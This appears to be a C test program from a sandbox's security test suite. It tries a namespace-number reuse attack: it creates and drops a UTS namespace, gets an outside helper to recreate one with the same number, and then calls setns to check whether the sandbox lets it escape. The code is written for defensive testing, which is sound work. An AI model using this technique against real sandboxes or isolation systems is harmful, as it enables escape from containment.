// SPDX-License-Identifier: Apache-2.0
/*
 * attack_reuse ROUNDS: the number of a namespace that is gone is given to the next one that is
 * made. The attacker makes a UTS namespace in its sandbox (so it belongs to the set), lets it go,
 * has somebody outside make namespaces until one gets the same number, and enters that: whoever
 * keeps a set of numbers takes it for its own. Repeated, since a number may be forgotten in time or
 * not.
 */
#include "attack.h"

#include "race.h"

static uint64_t make_and_drop(void) {
  struct shared_result* number = new_shared_result();
  pid_t pid = fork();
  if (pid == 0) {
    if (unshare(CLONE_NEWUTS) != 0) broken("unshare");
    number->result = (long)ns_of_self(ns_uts);
    _exit(0);
  }
  waitpid(pid, NULL, 0);
  uint64_t value = (uint64_t)number->result;
  munmap((void*)number, 4096);
  return value;
}

int main(int argc, char** argv) {
  if (argc != 2) {
    fprintf(stderr, "usage: attack_reuse ROUNDS\n");
    return exit_usage;
  }
  struct race race = {.rounds = atoi(argv[1])};
  int refusals = 0, reused = 0;
  long last = 0;
  for (int i = 0; race_goes_on(&race, reused > 0); i++) {
    char packet[9] = {ask_reuse};
    uint64_t number = make_and_drop();
    int fd, to = ask_connect();
    usleep((unsigned)(i % 4) * 3000); /* the drop may be asynchronous */
    memcpy(packet + 1, &number, sizeof number);
    if (send(to, packet, sizeof packet, 0) < 0 || receive_fds(to, packet, 1, &fd, 1) < 0)
      broken("ask");
    close(to);
    if (fd < 0) continue;
    reused++;
    long value = raw(SYS_setns, fd, CLONE_NEWUTS, 0, 0, 0);
    if (value == 0) {
      fprintf(stderr, "# number %llu was taken for the sandbox's\n", (unsigned long long)number);
      escaped();
    }
    refusals++;
    last = -value;
    close(fd);
  }
  fprintf(stderr, "# %d numbers came again in %ld rounds, %d refused\n", reused, race.begun - 1,
          refusals);
  if (reused == 0) finish(exit_usage, "broken", "no number came again");
  refused((int)last);
}
